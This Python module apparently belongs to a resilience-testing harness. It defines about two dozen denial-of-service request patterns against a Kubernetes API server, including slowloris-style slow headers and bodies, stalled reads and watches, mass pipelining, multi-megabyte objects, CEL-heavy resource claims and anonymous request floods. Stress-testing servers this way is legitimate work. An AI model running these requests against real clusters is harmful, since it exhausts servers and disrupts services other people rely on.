"""Requests that cost the server much and the client little."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable
from typing import Any, Final, NamedTuple

TABLE: Final = "application/json;as=Table;g=meta.k8s.io;v=v1"
PODS: Final = "/api/v1/namespaces/attack/pods"
CONFIG_MAPS: Final = "/api/v1/namespaces/attack/configmaps"
CLAIMS: Final = "/apis/resource.k8s.io/{version}/namespaces/attack/resourceclaims"

DIFFERENT_BODIES: Final = 8

Send = Callable[[asyncio.StreamReader, asyncio.StreamWriter, int], Awaitable[int]]


class Attack(NamedTuple):
    """What one connection of the attacker sends again and again; `send` returns the status."""

    who: str
    name: str
    send: Send

    @property
    def is_slow(self) -> bool:
        return self.name.startswith("slow-")


def binding(user: str) -> Any:
    return {
        "metadata": {"name": user},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io",
            "kind": "ClusterRole",
            "name": "admin",
        },
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}],
    }


def filling(number: int) -> tuple[str, Any]:
    """Return the path and the body of an object that makes lists long."""
    metadata = {"name": f"x{number}", "labels": {"app": f"a{number % 7}"}}
    if number % 3 == 0:
        return PODS, {"metadata": metadata, "spec": _pod_spec(5)}
    if number % 3 == 1:
        return CLAIMS.format(version="v1"), {"metadata": metadata, "spec": _claim_spec(4)}
    return CONFIG_MAPS, {"metadata": metadata, "data": {f"k{n}": "v" * 50 for n in range(20)}}


def _pod_spec(containers: int) -> Any:
    environment = [{"name": f"E{n}", "value": "x" * 20} for n in range(10)]
    return {
        "containers": [
            {"name": f"c{n}", "image": "registry.example/image:1", "env": environment}
            for n in range(containers)
        ]
    }


def _claim_spec(requests: int) -> Any:
    expression = "device.attributes['x.example'].a == 'b' && device.driver == 'x.example'"
    return {
        "devices": {
            "requests": [
                {
                    "name": f"r{n}",
                    "exactly": {
                        "deviceClassName": "gpu.example.com",
                        "selectors": [{"cel": {"expression": expression}}],
                    },
                }
                for n in range(requests)
            ]
        }
    }


async def exchange(
    reader: asyncio.StreamReader,
    writer: asyncio.StreamWriter,
    method: str,
    path: str,
    body: bytes = b"",
    **headers: str,
) -> int:
    """Send one request, read its whole response and return the status."""
    lines = [f"{method} {path} HTTP/1.1", "Host: x", f"Content-Length: {len(body)}"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    writer.write("\r\n".join([*lines, "", ""]).encode() + body)
    await writer.drain()
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
    status = int(head.split(" ", 2)[1])
    if "content-length:" in head:
        left = int(head.partition("content-length:")[2].partition("\r\n")[0])
        while left > 0:
            left -= len(await _some(reader, min(left, 2**16)))
    elif "chunked" in head:
        while size := int(await reader.readline(), 16):
            await reader.readexactly(size + 2)
        await reader.readline()
    return status


async def _some(reader: asyncio.StreamReader, count: int) -> bytes:
    data = await reader.read(count)
    if not data:
        raise EOFError
    return data


def _get(path: str, **headers: str) -> Send:
    async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int) -> int:
        return await exchange(reader, writer, "GET", path, b"", **headers)

    return send


def _post(path: str, make: Callable[[int], bytes], method: str = "POST", **headers: str) -> Send:
    bodies: dict[int, bytes] = {}
    headers.setdefault("content_type", "application/json")

    async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, number: int) -> int:
        # Few bodies, made once: the attacker must not be slower than the server.
        number %= DIFFERENT_BODIES
        if number not in bodies:
            bodies[number] = make(number)
        return await exchange(reader, writer, method, path, bodies[number], **headers)

    return send


def _large_config_map(number: int) -> bytes:
    data = {f"k{n}": "v" for n in range(50_000)}
    return json.dumps({"metadata": {"name": f"l{number}"}, "data": data}).encode()


def _large_pod(number: int) -> bytes:
    return json.dumps({"metadata": {"name": f"l{number}"}, "spec": _pod_spec(800)}).encode()


def _claim(number: int) -> bytes:
    # As much as a claim may have.
    spec = _claim_spec(13)
    for index, request in enumerate(spec["devices"]["requests"]):
        terms = (f"device.attributes['x.example'].a{n} == '{number}'" for n in range(150))
        request["exactly"]["selectors"] = [
            {"cel": {"expression": " && ".join((*terms, f"{index} == 0"))}}
        ]
    return json.dumps({"metadata": {"name": f"l{number}"}, "spec": spec}).encode()


def _applied(number: int) -> bytes:
    data = {f"k{n}": f"v{number}" for n in range(20_000)}
    document = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "applied"}}
    return json.dumps({**document, "data": data}).encode()


async def _slow_read(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int
) -> int:
    writer.write(f"GET {PODS} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    await asyncio.sleep(40)
    raise EOFError


async def _slow_watch(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int
) -> int:
    writer.write(f"GET {CONFIG_MAPS}?watch=true HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    await asyncio.sleep(40)
    raise EOFError


async def _slow_body(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int
) -> int:
    writer.write(
        f"POST {CONFIG_MAPS} HTTP/1.1\r\nHost: x\r\nContent-Length: 3000000\r\n\r\n".encode()
    )
    writer.write(b"x" * 2_000_000)
    await asyncio.sleep(40)
    raise EOFError


async def _slow_head(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int
) -> int:
    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
    while not reader.at_eof():
        writer.write(b"x: y\r\n")
        await asyncio.sleep(1)
    raise EOFError


async def _pipelined(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int
) -> int:
    request = f"GET {PODS}?limit=500 HTTP/1.1\r\nHost: x\r\n\r\n".encode()
    writer.write(request * 500)
    await reader.readuntil(b"\r\n\r\n")
    raise EOFError


async def _distinct(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, number: int) -> int:
    path = f"/api/v1/namespaces/n{number}-{id(reader)}/pods/{'x' * 2000}"
    return await exchange(reader, writer, "GET", path)


async def _reconnect(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int
) -> int:
    await exchange(reader, writer, "GET", "/livez")
    raise EOFError


def _three_megabytes(_number: int) -> bytes:
    return b'{"a":"' + b"x" * 2_900_000 + b'"}'


ATTACKS: Final = (
    Attack("user", "list", _get(PODS)),
    Attack("user", "table", _get(PODS, accept=TABLE)),
    Attack("user", "yaml", _get(PODS, accept="application/yaml")),
    Attack("user", "pretty", _get(f"{PODS}?pretty=true")),
    Attack("user", "selector", _get(f"{PODS}?labelSelector=app%20in%20(a1,a2),x!=y")),
    Attack("user", "converted", _get(CLAIMS.format(version="v1beta1"))),
    Attack("user", "create", _post(f"{CONFIG_MAPS}?dryRun=All", _large_config_map)),
    Attack("user", "pod", _post(f"{PODS}?dryRun=All", _large_pod)),
    Attack("user", "cel", _post(CLAIMS.format(version="v1") + "?dryRun=All", _claim)),
    Attack(
        "user",
        "apply",
        _post(
            f"{CONFIG_MAPS}/applied?fieldManager=x&force=true&dryRun=All",
            _applied,
            "PATCH",
            content_type="application/apply-patch+yaml",
        ),
    ),
    Attack("user", "get", _get(f"{PODS}/x0")),
    Attack("user", "watch", _get(f"{PODS}?watch=true&timeoutSeconds=1")),
    Attack("user", "openapi", _get("/openapi/v3/api/v1")),
    Attack("user", "slow-read", _slow_read),
    Attack("user", "slow-watch", _slow_watch),
    Attack("user", "slow-body", _slow_body),
    Attack("user", "pipelined", _pipelined),
    Attack("anonymous", "distinct", _distinct),
    Attack("anonymous", "token", _get(PODS, authorization="Bearer a.b.c")),
    Attack("anonymous", "reconnect", _reconnect),
    Attack("anonymous", "slow-head", _slow_head),
    Attack("anonymous", "slow-body", _slow_body),
    Attack("anonymous", "large", _post(CONFIG_MAPS, _three_megabytes)),
    Attack("anonymous", "version", _get("/version")),
)
